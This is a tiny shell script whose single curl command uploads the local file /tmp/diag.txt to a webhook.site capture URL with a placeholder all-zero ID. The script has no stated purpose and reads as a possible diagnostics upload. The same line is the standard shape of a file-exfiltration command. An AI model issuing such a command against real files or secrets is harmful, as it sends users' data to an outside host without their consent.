#!/bin/sh
curl -d @/tmp/diag.txt https://webhook.site/00000000-0000-0000-0000-000000000000
